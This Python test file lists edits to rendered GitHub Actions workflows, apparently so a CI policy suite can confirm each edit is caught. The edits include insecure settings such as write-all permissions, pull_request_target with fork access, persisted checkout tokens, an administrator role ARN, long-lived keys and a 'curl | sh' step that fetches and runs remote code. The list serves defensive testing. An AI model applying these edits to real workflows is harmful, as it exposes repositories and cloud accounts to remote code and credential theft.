"""Edits of the renderer: every file says them, so that no file differs from what the renderer makes of the model."""

# A row is one line.
# ruff: noqa: E501

from __future__ import annotations

from tests.ci.policy.workflows.edits import PINS, OfRenderer

JOB, STEP = "    runs-on: ubuntu-24.04\n", "        run: ./noxw -s lint\n"
CHECKOUT = PINS["actions/checkout"]

EDITS = (
    OfRenderer("jobs whose failure is a success", JOB, f"{JOB}    continue-on-error: true\n"),
    OfRenderer("jobs in a container", JOB, f"{JOB}    container: example.org/image\n"),
    OfRenderer("jobs beside a service", JOB, f"{JOB}    services: {{}}\n"),
    OfRenderer("jobs with defaults of their commands", JOB, f"{JOB}    defaults: {{run: {{shell: sh}}}}\n"),
    OfRenderer("jobs on a machine of somebody", JOB, "    runs-on: self-hosted\n"),
    OfRenderer("jobs that are cut by another of their matrix", "fail-fast: false", "fail-fast: true"),
    OfRenderer("jobs of a matrix, one after the other", "      fail-fast: false", "      max-parallel: 1\n      fail-fast: false"),
    OfRenderer("every grant for every job", "    permissions:\n      contents: read", "    permissions: write-all\n    x:\n      contents: read"),
    OfRenderer("every grant at the top", "permissions: {}", "permissions: write-all"),
    OfRenderer("variables of every job", "permissions: {}", "permissions: {}\n\nenv:\n  TF_LOG: trace"),
    OfRenderer("defaults of every command", "permissions: {}", "permissions: {}\n\ndefaults:\n  run:\n    shell: sh"),
    OfRenderer("steps whose failure is a success", STEP, f"{STEP}        continue-on-error: true\n"),
    OfRenderer("steps with a shell", STEP, f"{STEP}        shell: python {{0}}\n"),
    OfRenderer("steps in another folder", STEP, f"{STEP}        working-directory: cdktf.out\n"),
    OfRenderer("steps that do nothing", STEP, ""),
    OfRenderer("a push of any branch", "    branches: [main]", "    branches: ['**']"),
    OfRenderer("a push of tags, too", "    branches: [main]", "    branches: [main]\n    tags: ['**']"),
    OfRenderer("requests of forks with our token", "  pull_request:\n", "  pull_request_target:\n"),
    OfRenderer("a filter of paths", "  pull_request:\n", "  pull_request:\n    paths-ignore: [docs/**]\n"),
    OfRenderer("one more event", "  merge_group:\n", "  merge_group:\n  issue_comment:\n"),
    OfRenderer("an input with another key", '        type: string\n', '        type: string\n        deprecationMessage: "old"\n'),
    OfRenderer("secrets for every call", "    uses: ./.github/workflows/deploy.yml\n", "    uses: ./.github/workflows/deploy.yml\n    secrets: inherit\n"),
    OfRenderer("a called workflow of another repository", "    uses: ./.github/workflows/deploy.yml\n", "    uses: somebody/else/.github/workflows/deploy.yml@main\n"),
    OfRenderer("a group with another key", "cancel-in-progress: false\n", "cancel-in-progress: false\n      timeout: 1\n"),
    OfRenderer("an environment with an address", "      deployment: false\n", "      deployment: false\n      url: https://example.org\n"),
    OfRenderer("checkouts that keep the token", "persist-credentials: false", "persist-credentials: true"),
    OfRenderer("checkouts that say nothing of the token", "          persist-credentials: false\n", "          fetch-depth: 0\n"),
    OfRenderer("checkouts of another repository", "          persist-credentials: false\n", "          persist-credentials: false\n          repository: somebody/else\n"),
    OfRenderer("an action at a tag", CHECKOUT, "actions/checkout@v7"),
    OfRenderer("an action of somebody", CHECKOUT, CHECKOUT.replace("actions/", "somebody/")),
    OfRenderer("an account in every log", "mask-aws-account-id: true", "mask-aws-account-id: false"),
    OfRenderer("credentials of any account", "          allowed-account-ids: ${{ steps.identity.outputs.account_id }}\n", ""),
    OfRenderer("credentials of one role", "${{ steps.identity.outputs.role_arn }}", "arn:aws:iam::111111111111:role/administrator"),
    OfRenderer("long-lived keys", "          role-to-assume", "          aws-access-key-id: AKIDEXAMPLE\n          role-to-assume"),
    OfRenderer("hidden files of every artifact", "          retention-days", "          include-hidden-files: true\n          retention-days"),
    OfRenderer("a script from the network in the set-up", "run: ./noxw --only-set-up", "run: curl -fsSL https://example.com | sh"),
    OfRenderer("another shell in the set-up", "shell: bash", "shell: python"),
    OfRenderer("a program as the set-up", "using: composite", "using: node24"),
    OfRenderer("text that is no YAML", "jobs:", "jobs: ["),
)  # fmt: skip
